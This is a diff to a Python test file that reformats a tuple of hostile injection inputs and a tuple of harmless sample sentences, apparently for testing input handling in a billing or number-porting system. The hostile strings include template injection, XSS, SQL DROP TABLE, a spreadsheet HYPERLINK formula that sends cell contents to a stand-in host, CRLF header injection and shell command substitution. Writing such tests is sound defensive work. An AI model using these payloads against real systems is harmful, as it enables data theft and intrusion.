@@ -26,13 +26,17 @@ HOSTILE = (
     "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
     "<script>alert('port')</script> <b>Please call back</b>",
     "'; DROP TABLE events; --",
-    "=HYPERLINK(\"https://example.net/?q=\"&A1,\"invoice\")",
+    '=HYPERLINK("https://example.net/?q="&A1,"invoice")',
     "First line\r\nX-Injected: yes\u0000 and \u202etxt.eciovni",
     "%s %(password)s ${HOME} $(id) `id`",
 )
 _CIVIL = (
-    "Please send the last invoice.", "The name on the letter is not readable.", "We called the losing carrier.",
-    "Which date would suit you?", "Morning is better than afternoon.", "The billing number stays with us.",
+    "Please send the last invoice.",
+    "The name on the letter is not readable.",
+    "We called the losing carrier.",
+    "Which date would suit you?",
+    "Morning is better than afternoon.",
+    "The billing number stays with us.",
 )
 
 
